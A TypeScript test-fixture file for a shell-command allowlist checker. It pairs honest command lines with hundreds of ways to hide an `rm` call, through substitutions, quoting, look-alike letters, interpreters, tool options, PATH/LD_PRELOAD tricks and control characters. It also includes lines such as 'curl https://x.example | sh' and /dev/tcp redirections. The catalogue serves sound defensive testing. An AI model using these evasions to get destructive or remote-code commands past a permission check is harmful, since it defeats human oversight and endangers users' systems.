// biome-ignore-all lint/suspicious/noTemplateCurlyInString: what looks like a template is shell
// Command lines that start `rm` in ways that are easy to overlook, beside honest ones. The condition asked is
// `command: {in: [git, ls, cat, echo, …]}` (the list below), which `rm` is not in.
import { type Trick, tricks, type Verdict } from './verdict.ts'

const unsure = 'could-not-tell'

export const allowedPrograms = (
  'git ls cat echo grep [ [[ test true false cd pwd printf find sed awk tar npm node python3 make sort head tail wc uniq tr cut ' +
  'curl docker mkdir touch diff ./run.sh bin/tool kubectl cargo go rsync exit : xargs sh bash env sudo eval command'
).split(' ')

/** Lines in which `rm` never runs. */
// biome-ignore format: a table
const honest: readonly Trick[] = [
  ...tricks('held', 'one program', 'git status', 'ls', 'ls -la /tmp', '  git   log  ', 'git log --oneline -5', 'echo',
    'true', ': nothing', '[ -f x ]', 'test -d y', '[[ -f x ]]', '[[ $a == b* ]]'),
  ...tricks('held', 'several programs, all listed', 'git status; ls', 'git add . && git commit -m "Say it"',
    'ls | grep foo | wc -l', 'ls || echo none', 'ls & cat x', 'ls\ncat x\n', 'cd /tmp && ls', '(cd x; ls)',
    '{ ls; cat x; }', '! grep -q x y', 'ls;', 'ls &', '[ -f x ] && cat x || echo no', '[[ -n "$x" ]] && echo yes'),
  ...tricks('held', 'blocks', 'if [ -f x ]; then cat x; elif true; then ls; else echo no; fi',
    'for f in *.txt; do cat "a/$f"; done', 'for i in 1 2 3; do echo $i; done', 'while test -f x; do ls; done',
    'until true; do ls; done', 'case $x in a|b) ls;; *) cat y;; esac', 'if ! true; then ls; fi',
    'for f in a b\ndo\nls $f\ndone', 'if true; then if true; then ls; fi; fi'),
  ...tricks('held', 'quotes of every plain kind', "echo 'a; rm x'", 'echo "a; rm x"', 'echo a\\;rm',
    'echo "a \\"; rm x; \\" b"', "echo 'it'\\''s'", 'g"i"t status', "'git' status", '\\git status', 'g\\it status',
    'git \\\n  status', 'git \\\nstatus', 'gi\\\nt status', 'echo "$ (" | cat', "grep 'foo$' x",
    'grep "foo$" x', 'grep "a|b" x', 'echo a#b', 'echo "#"', "echo '`rm`'", "echo '$(rm x)'"),
  ...tricks('held', 'variables as arguments', 'echo $HOME', 'echo "$HOME/x"', 'cat ${file}', 'ls $1 "$@"',
    'echo $? $$ $#', 'git commit -m "Fix $x"', 'echo $'),
  ...tricks('held', 'patterns as arguments', 'ls *.ts', 'cat ?.txt', 'ls [ab]*', 'echo {a,b}', 'ls ~/x ~',
    'git add src/*.ts'),
  ...tricks('held', 'redirections that write nothing', 'ls 2>/dev/null', 'ls > /dev/null 2>&1', 'ls >/dev/null',
    'ls 2>&1 | cat', 'cat < x', 'ls 1>&2', 'cat <x | wc', 'ls >>/dev/null', 'ls 2>&-', 'cat 0<x', 'ls >| /dev/null',
    '{ ls; } 2>/dev/null', 'for f in a; do ls; done < x'),
  ...tricks('held', 'here-documents and here-texts without expansion', "cat <<'EOF'\n$(rm x)\n`rm x`\nEOF",
    'cat <<"EOF"\n$x\nEOF\nls', 'cat <<EOF\nplain\nEOF', "cat <<-'EOF'\n\tx\n\tEOF", 'cat <<< hello', "cat <<< 'a b'",
    "cat <<'A' <<'B'\n1\nA\n2\nB", "cat <<'EOF' | grep x\nrm x\nEOF", 'cat <<EOF && ls\nx\nEOF'),
  ...tricks('held', 'assignments that only change the looks', 'LANG=C ls', 'LC_ALL=C.UTF-8 sort x', 'TZ=UTC git log',
    'NO_COLOR=1 npm test', 'CI=1 NODE_ENV=test npm test'),
  ...tricks('held', 'system folders', '/bin/ls', '/usr/bin/git status', '/usr/local/bin/node x.js',
    '/opt/homebrew/bin/git status', '/sbin/true', '"/bin/ls"'),
  ...tricks('held', 'paths as written', './run.sh', './run.sh a b', 'bin/tool x', '"./run.sh"'),
  ...tricks('held', 'launchers in harmless use', 'find . -name "*.ts" -type f', "find . -name '*.ts' | wc -l",
    'git -C x status', 'git --no-pager diff', 'git push -u origin main', 'git fetch origin', 'git commit -am "x"',
    'git checkout -b y', 'tar xzf a.tgz', 'tar -czf a.tgz src', 'tar -xf a.tar -C out',
    'sed -n 1,20p x', "sed -i 's/a/b/g' x", "sed -e 's|a|b|' x", "awk '{print $1}' x", "awk -F: '{ print $1, $3 }' x",
    'npm test', 'npm run build', 'npm ci', 'npm install --save-dev x', 'npm run test -- --watch -x',
    'node build.js a -b', 'python3 build.py --x', 'node --version', 'make', 'make -j4 test',
    'sort x | uniq -c | sort -rn', 'docker ps -a', 'kubectl get pods -n x', 'cargo build --release', 'cargo test',
    'go test ./...', 'go build -o x ./cmd', 'curl -s https://good.example/', 'curl -fsSL -o x https://good.example/',
    'rsync -av src/ dst/'),
  ...tricks('held', 'remarks', 'ls # files', '# files\nls', 'ls #'),
  ...tricks('did-not-hold', 'a program that is not listed', 'cp a b', 'mv a b', 'dd if=a of=b', 'ls; cp a b',
    'chmod 777 x', '/usr/bin/touche x', './other.sh', '/tmp/git status', 'bin/git status', './git status',
    '/home/dev/bin/ls', 'gitk', 'git-status', 'lsof', 'cat.exe', 'ls.', '-x', 'tee x', 'kill 1', 'cp $x y'),
  ...tricks('did-not-hold', 'letters that look alike are another program', 'gіt status', 'lѕ', 'саt x', 'есho x',
    'gít status', 'ls٠'),
]

/** Ways to start `rm`, each alone on a line. What is told names it. */
// biome-ignore format: a table
const hidings: readonly (readonly [line: string, verdict: Verdict, why: string])[] = [
  ...tricks('did-not-hold', 'plainly', 'rm x', 'rm', '"rm" x', "'rm' x", '\\rm x', 'r\\m x', 'r"m" x', "r''m x",
    '""rm x', 'r\\\nm x', '/bin/rm x', '/usr/bin/rm x', '"/bin/rm" x', '/bin/r"m" x', 'rm<x', 'rm 2>/dev/null x',
    '2>/dev/null rm x', '</dev/null rm x', 'LANG=C rm x', 'rm\tx', 'rm --', 'rm "$x"'),
  ...tricks(unsure, 'in a substitution', 'echo $(rm x)', 'echo `rm x`', 'echo "$(rm x)"', 'echo "`rm x`"',
    'ls $(rm x)', '$(echo rm) x', '`echo rm` x', 'echo $(ls; rm x)', 'echo ${x:-$(rm x)}', 'echo "${x:=`rm x`}"',
    'echo $(( $(rm x) ))', 'echo $[$(rm x)]', 'echo ${ rm x; }', 'echo ${| rm x; }', 'cat <(rm x)', 'ls > >(rm x)',
    'cat < <(rm x)', 'echo =(rm x)', 'LANG=$(rm x) ls', 'ls 2>$(rm x)', 'cat <<< $(rm x)', 'cat <<< "`rm x`"',
    'for f in $(rm x); do ls; done', 'case $(rm x) in a) ls;; esac', 'case a in $(rm x)) ls;; esac', '[ $(rm x) ]',
    '[[ $(rm x) ]]', 'cat <<EOF\n$(rm x)\nEOF', 'cat <<EOF\n`rm x`\nEOF', 'cat <<-EOF\n\t$(rm x)\n\tEOF',
    'cat <<E"O"F\n$(rm x)\nEOF', 'echo "\\\\$(rm x)"', "echo '\\'$(rm x)", 'ls "a"$(rm x)', 'LANG=C$(rm x)',
    'ls -$(rm x)', 'echo \\\\`rm x`', 'echo "a\nb$(rm x)"', 'ls ~$(rm x)', 'ls [$(rm x)]', 'ls {a,$(rm x)}'),
  ...tricks(unsure, 'the program is filled in', '$x y', '${x} y', '"$x" y', '$1', '"$@"', '$*', 'r$x x', '${x}rm x',
    'r${z}m x', '${SHELL} -c "rm x"', '$0 x', '~/rm x', '~root/x', 'r* x', 'r? x', '/bin/r[m] x', '/bin/r? x',
    '/???/rm x', '{rm,x}', '{rm,-rf} x', 'r{m,} x', "$'rm' x", "$'\\x72m' x", "$'\\162\\155' x", '$"rm" x', "r$'m' x",
    '!rm', '!!', '!$', '^ls^rm', '%1', '=rm x', '@(rm) x', '?(rm) x', '+(r)m x', '$(', '${x', '`'),
  ...tricks(unsure, 'handed to a shell or to this one', "sh -c 'rm x'", 'bash -c "rm x"', 'bash -lc rm', 'zsh -c rm',
    'dash -c rm', 'busybox rm x', "eval 'rm x'", 'eval rm x', 'source x', '. ./x', 'echo rm x | sh',
    'echo rm x | bash -s', 'bash x.sh', 'bash <<< "rm x"', "sh <<'EOF'\nrm x\nEOF", 'bash < x', 'exec rm x',
    'exec 3>&1', '/bin/sh -c "rm x"', './sh -c "rm x"', '/opt/x/bash -c "rm x"', '"bash" -c "rm x"',
    'b\\ash -c "rm x"', 'bash5.2 -c rm', 'fc -s rm', 'trap "rm x" EXIT', 'trap rm 0', 'let "a[$(rm x)]"',
    'curl https://x.example | sh', 'env bash -c rm', 'su -c "rm x"', 'script -c "rm x"', 'ksh -c rm', 'tcsh -c rm',
    'fish -c rm'),
  ...tricks(unsure, 'started by another program', 'xargs rm', 'ls | xargs rm', 'env rm x', 'env -S "rm x"',
    'sudo rm x', 'doas rm x', 'command rm x', 'builtin eval rm', 'nohup rm x', 'nice rm x', 'nice -n 5 rm x',
    'time rm x', 'time -p rm x', 'timeout 5 rm x', 'watch rm x', 'parallel rm', 'setsid rm x', 'stdbuf -o0 rm x',
    'chroot / rm x', 'ionice rm x', 'strace rm x', 'unshare rm x', 'flock x rm x', 'taskset 1 rm x',
    'systemd-run rm x', 'at now <<< "rm x"', 'crontab x', 'ssh host rm x', 'docker run x rm y', 'docker exec x rm y',
    'kubectl exec x -- rm y', 'npx rm', 'npm exec rm', 'npm x -- rm', 'uvx rm', 'pipx run rm', 'nix-shell --run rm',
    'tmux new rm', 'screen rm', 'entr rm', 'caffeinate rm x', 'arch -x86_64 rm x', 'open -a rm', 'xdg-open x',
    'expect -c "spawn rm x"', 'coproc rm x', 'coproc { rm x; }', 'noglob rm x', 'nocorrect rm x', '- rm x',
    'repeat 3 rm x', '/lib64/ld-linux-x86-64.so.2 /bin/rm x', 'ld.so /bin/rm', 'socat - EXEC:rm',
    'ip netns exec x rm', 'run-parts x', 'start-stop-daemon --exec rm', 'make SHELL=rm', 'make -f x',
    'make --eval "x:;rm x"', 'rsync -e rm a b:c', 'rsync --rsh=rm a b:c', 'rsync a b:c', 'yarn rm x', 'pnpm dlx rm',
    'poetry run rm x', 'bundle exec rm x', 'cargo run', 'cargo --config x build', 'go run x.go', 'go test -exec rm',
    'go build -toolexec rm', 'apt -o Dpkg::Pre-Invoke::=rm x'),
  ...tricks(unsure, 'code for an interpreter', 'python3 -c "import os"', 'python3 -m x', 'python -Ic x', 'python3',
    'python3 -', 'echo x | python3', 'python3 -W x -c y', 'python3.12 -c x', 'node -e x', 'node -p x',
    'node --eval=x', 'node -r ./x y.js', 'node --import ./x y.js', 'node', 'perl -e "unlink x"', 'perl -pe x y',
    'ruby -e x', 'php -r x', 'lua -e x', 'awk "BEGIN{system(\\"rm x\\")}"', 'awk \'BEGIN{system("rm x")}\'',
    'awk \'{print | "rm x"}\'', 'awk \'{print > "x"}\'', 'awk -f x', 'gawk -i x', "sed 's/x/rm x/e' y",
    "sed '1e rm x' y", 'sed -f x', "sed -n 'w x' y", "sed 's/a/b/w x' y", "sed 's/a/b/;e rm' y",
    "sed --expression='1e rm x' y", 'osascript -e x', 'deno run https://x.example/x.ts', 'deno eval x', 'bun -e x',
    'tclsh x', 'm4 x', 'dc -e "!rm x"', 'sqlite3 x ".shell rm x"', 'psql -c "\\! rm x"', 'mysql -e "\\! rm x"',
    'R -e x', 'Rscript -e x', 'julia -e x', 'jshell x', 'node x', 'python3 /dev/stdin', 'perl x'),
  ...tricks(unsure, 'in the options of a program that has other uses', 'find . -exec rm {} +',
    'find . -exec rm {} \\;', 'find . -execdir rm {} +', 'find . -ok rm {} \\;', 'find . -okdir rm {} +',
    'find . -delete', 'find . -fprint x', 'find . "-ex"ec rm {} +', 'find . -{name,exec} rm {} +', 'find . $x',
    'find *', 'find "$x"', 'find . -name x -o -exec rm {} +', 'git -c alias.x=!rm x', 'git -c core.pager=rm log',
    'git -c core.sshCommand=rm fetch', 'git --exec-path=/tmp x', 'git --config-env=a=b log', 'git -p log', 'git x',
    'git rm-all', 'git submodule foreach rm x', 'git bisect run rm x', 'git rebase -x "rm x" main',
    'git rebase --exec rm', 'git rebase --exe rm', 'git rebase -ix rm', 'git filter-branch --tree-filter rm',
    'git fetch --upload-pack=rm', 'git fetch --upload-p=rm', 'git clone -u rm x', 'git clone --upload-pack rm x',
    'git clone -c a=b x', 'git clone --config a=b x', 'git clone --template=x y', 'git clone ext::rm x', 'git add *.ts', 'git add -- *.ts',
    'git ls-remote --upload-pack=rm x', 'git push --receive-pack=rm', 'git push --exec=rm', 'git grep -O rm',
    'git grep -nOrm x', 'git grep --open-files-in-pager=rm x', 'git difftool -x rm', 'git mergetool',
    'git diff --ext-diff', 'git log --output=x', 'git diff --outp=x', 'git config alias.x !rm', 'git help x',
    'git -C x -c a=b log', 'git -C -c log', 'git --git-dir=x log', 'git --work-tree=x status', 'git $x',
    'git {log,-c}', 'git "$x" status', 'git log $x', 'git commit -e', 'git merge -s x y', 'git init --template=x',
    'git send-email x', 'git web--browse x', 'git instaweb', 'git hook run x',
    'tar --checkpoint=1 --checkpoint-action=exec=rm -cf x y', 'tar -cf x --checkpoint-act=exec=rm y',
    'tar --to-command=rm -xf x', 'tar -I rm -xf x', 'tar -xf x -I rm', 'tar -cIf x y',
    'tar --use-compress-program=rm -xf x', 'tar -xf x --use-compress=rm', 'tar -F rm -xf x',
    'tar --rsh-command=rm -xf h:x', 'tar xf host:x', 'tar xf *', 'tar cf x.tar *', 'tar cf x $y',
    'sort --compress-program=rm x', 'sort --comp=rm x', 'sort -o x y', 'split --filter=rm x', 'rg --pre rm x',
    'fd -x rm', 'fd --exec rm', 'wget --use-askpass=rm x', 'curl -K x', 'curl --config x', 'gcc -wrapper rm x.c',
    'npm --script-shell=rm test', 'npm run --script-shell rm x', 'npm explore x -- rm', 'npm config set x y',
    'zip x y -TT rm', 'openssl x', 'tcpdump -z rm', 'gh alias set x', 'gh extension exec x', 'gh x'),
  ...tricks(unsure, 'from an editor or pager', 'vim x', 'vim -c "!rm x"', 'vi', 'less x', 'cat x | less', 'more x',
    'man x', 'man -P rm x', 'emacs --eval x', 'nano x', 'ed x', 'ex x', 'git log | less', 'view x'),
  ...tricks(unsure, 'names are given another meaning', 'alias ls=rm; ls x', 'ls() { rm x; }; ls',
    'function ls { rm x; }; ls', 'function ls() (rm x); ls', 'hash -p /bin/rm ls; ls x', 'enable -n echo',
    'enable -f x y', 'unalias ls', 'PATH=/tmp/evil ls', 'PATH=/tmp/evil; ls', 'export PATH=/tmp/evil; ls',
    'export PATH=/tmp; ls', 'LD_PRELOAD=x ls', 'LD_LIBRARY_PATH=x ls', 'DYLD_INSERT_LIBRARIES=x ls', 'IFS=x ls',
    'BASH_ENV=x ls', 'ENV=x ls', 'GIT_SSH_COMMAND=rm git fetch', 'GIT_PAGER=rm git log', 'GIT_EDITOR=rm git commit',
    'PAGER=rm git log', 'EDITOR=rm git commit', 'NODE_OPTIONS=x node y.js', 'PYTHONSTARTUP=x python3 y.py',
    'PYTHONPATH=x python3 y.py', 'PERL5OPT=x ls', 'RUBYOPT=x ls', 'CC=rm make', 'FOO=1 ls', 'x=rm; $x y', 'x=1',
    'PATH+=:/tmp ls', 'a[0]=1 ls', 'a=(rm x)', 'LANG="$x" ls', 'LANG=C PATH=/tmp ls', 'CDPATH=/ cd x', 'PS4=x ls',
    'PROMPT_COMMAND=rm', 'SHELLOPTS=xtrace ls', 'for PATH in /tmp; do ls; done', 'for path in /tmp; do ls; done',
    'for IFS in x; do ls; done', 'for LD_PRELOAD in x; do ls; done', 'read PATH <<< /tmp; ls',
    'declare PATH=/tmp; ls', 'typeset -x PATH=/tmp', 'readonly x=1', 'local x', 'set -a', 'shopt -s expand_aliases',
    'unset PATH', 'printf -v PATH x; ls $(x)', 'mapfile -C rm x', 'complete -C rm x', 'bind -x x',
    'command_not_found_handle() { rm x; }', 'select x in a; do ls; done', 'emulate sh -c rm', 'autoload x',
    'zmodload x'),
  ...tricks(unsure, 'a file is written', 'echo x > ~/.bashrc', 'echo x > y', 'echo x >> y', 'echo x >| y',
    'echo x &> y', 'echo x &>> y', 'echo x >& y', 'ls 2> y', '> y', '>y ls', 'ls > $x', 'ls > /dev/null > y',
    'ls <> y', 'ls {fd}> y', '{ ls; } > y', 'for f in a; do ls; done > y', 'if true; then ls; fi > y', '(ls) > y',
    'ls > /dev/tcp/x/1', 'cat < /dev/tcp/x/1', 'ls >/dev/nul', 'ls > "/dev/null "', 'ls > /dev/../x', 'ls >&x',
    'ls &>/dev/null x', '< x'),
  ...tricks(unsure, 'numbers are calculated, which can run what stands in brackets', '((a[$(rm x)]))',
    "echo $((a['$(rm x)']))", "[ -v 'a[$(rm x)]' ]", "test -v 'a[$(rm x)]'", "[[ 'a[$(rm x)]' -eq 1 ]]",
    "[[ -v 'a[$(rm x)]' ]]", "printf %d 'a[$(rm x)]'", "printf -v 'a[$(rm x)]' y",
    'for ((i=0; i<1; i++)); do ls; done', "exit 'a[`rm x`]'", 'echo $[1+1]', 'echo $((1+1))', '((1))',
    "for a in 'x[$(rm)]'; do test $a -eq 1; done", 'echo $x[$y]', 'echo "$x[$y]"', '((rm x))',),
  ...tricks(unsure, 'sh, bash and zsh read it differently', "echo $'a\\'; rm x; echo \\''", "echo $'a'", 'echo $"a"',
    'ls &>/dev/null', 'ls |& rm', '[[ a < b ]]', '[[ a > b ]]', '[[ -f x && rm ]]', '[[ -f x || rm ]]', 'ls *(e:rm:)',
    "ls *(e:'rm x':)", 'ls (e:rm:)', 'ls @(a|b)', 'ls !(a)', 'for x (a b) rm $x', 'foreach x (a b) rm $x; end',
    'if (true) { rm x }', 'while (true) { rm x }', '{ rm x } always { ls }', 'a b() { rm x; }', 'ls ; { rm x',
    "ls # it's", 'ls # ; rm x', 'ls # $(rm x)', '# `rm x`\nls', 'ls #\\\nrm x'),
  ...tricks(unsure, 'broken, so that nobody knows', "echo 'a", 'echo "a', 'echo a\\', 'ls |', 'ls &&', '| ls',
    '&& ls', ';; ls', 'ls ;; rm x', '(ls', 'ls)', '{ ls', 'ls; }', 'if true; then ls', 'fi',
    'done', 'then ls', 'do ls', 'esac', 'in', 'for', 'for x', 'case x in', 'cat <<EOF\nx', 'cat <<', 'cat <<EOF',
    'ls >', 'ls <', '!', 'ls & & rm', 'ls &; rm', '()', '( )', '{ }', '{}', ';', '&', '`', '$(', '${', '<<<',
    'ls <<<', 'if; then ls; fi', 'function', 'for 1 in a; do ls; done', 'for x in a; do done', 'while; do ls; done'),
  ...tricks(unsure, 'characters that are dropped, or that a terminal obeys', 'ls\rrm x', 'ls\r', 'ls\r\nrm x',
    'ls\u0000; rm x', 'r\u0000m x', 'ls\u001b[A', 'l\bs', '\u0004', 'ls\u000brm', 'ls\u000crm', 'ls\u00a0x',
    'ls\u2028rm x', 'ls\u2029rm x', 'ls\u0085rm x', 'r\u200bm x', 'r\u00adm x', 'ls \u202e; x mr', 'ls\u3000x',
    'ls\ufeff', '\ufeffls', 'ls \ud800', 'ls\u007f'),
  ...tricks(unsure, 'names that are the same to some systems', 'RM x', 'Rm x', '/bin/RM x', '/BIN/rm x', '/Bin/Rm x',
    'ſh -c rm', 'ｒm x', 'rｍ x', 'ﬁnd . -exec rm', 'BASH -c rm', 'LS', 'Git status', 'rM', '𝐫m x'),
  ...tricks(unsure, 'folders written in a second way', '/usr/../bin/rm x', '//bin/rm x', '/bin//rm x', '/bin/./rm x',
    '../bin/rm x', '../../bin/rm x', './../bin/rm x', '/proc/self/root/bin/rm x', '/dev/fd/3', '/dev/stdin',
    'x/../../bin/rm', '././run.sh', '/bin/', '/', './', '.', '..', '/bin/../bin/ls', 'cd / && bin/rm x',
    'cd /bin; ./rm x', 'pushd /bin; ./rm x', 'cd /tmp && ./run.sh'),
  ...tricks(unsure, 'Windows', 'cmd /c del x', 'cmd.exe /c del x', 'powershell -enc AAAA',
    'powershell.exe -Command rm x', 'pwsh -c rm', '%COMSPEC% /c del x', 'start rm', 'call rm', 'forfiles /c rm',
    'wsl rm x', 'rundll32 x', 'mshta x', 'wmic process call create x', 'schtasks /create x', 'iex x',
    'C:\\Windows\\x.exe', '& rm x'),
]

/** Surroundings of a command, for those that can stand in them. */
// biome-ignore format: a table
const around = [
  'ls; %', 'ls && %', 'ls || %', 'ls | %', 'ls & %', '( % )', '{ %\n}', 'ls\n%', '%\nls', 'if ls; then %\nfi',
  'if %\nthen ls; fi', 'for f in a; do %\ndone', 'while %\ndo ls; done', 'case a in a) %\n;; esac',
]

/** A few of each kind of hiding, in every surrounding. */
// biome-ignore format: a table
const stems = [
  'rm x', '"rm" x', '/bin/rm x', 'echo $(rm x)', 'echo `rm x`', 'eval rm x', 'xargs rm', 'env rm x', "sh -c 'rm x'",
  '$x y', 'r? x', '{rm,x}', 'find . -exec rm {} +', 'git -c alias.x=!rm x', 'python3 -c x', 'echo x > y',
  'PATH=/tmp ls', "$'rm' x", 'cat <(rm x)', 'RM x', '/usr/../bin/rm x', 'time rm x', 'a() { rm x; }', '((a[1]))',
  'awk \'BEGIN{system("rm x")}\'', 'vim x', 'FOO=1 ls', 'ls &>/dev/null', 'sudo rm x', 'command rm x', 'source x',
  'r\\\nm x', 'cat <<EOF\n$(rm x)\nEOF', 'tar xf x -I rm', 'coproc rm x', '! rm x',
]

function* combined(): Generator<Trick> {
  const known = new Map(hidings.map(([line, verdict]) => [line, verdict]))
  for (const stem of stems) {
    for (const shape of around) {
      const verdict = known.get(stem) ?? (stem === '! rm x' ? 'did-not-hold' : unsure)
      // A pipe takes no `!` in its middle.
      if (stem === '! rm x' && shape === 'ls | %') continue
      yield [shape.replace('%', () => stem), verdict, 'each hiding in each surrounding']
    }
  }
}

/** Lines that start `rm`, or may: none of them is ever allowed where only the list above is. */
export const rmTricks: readonly Trick[] = [...new Map([...hidings, ...combined()].map((one) => [one[0], one])).values()]
export const commandTricks: readonly Trick[] = [...honest, ...rmTricks]
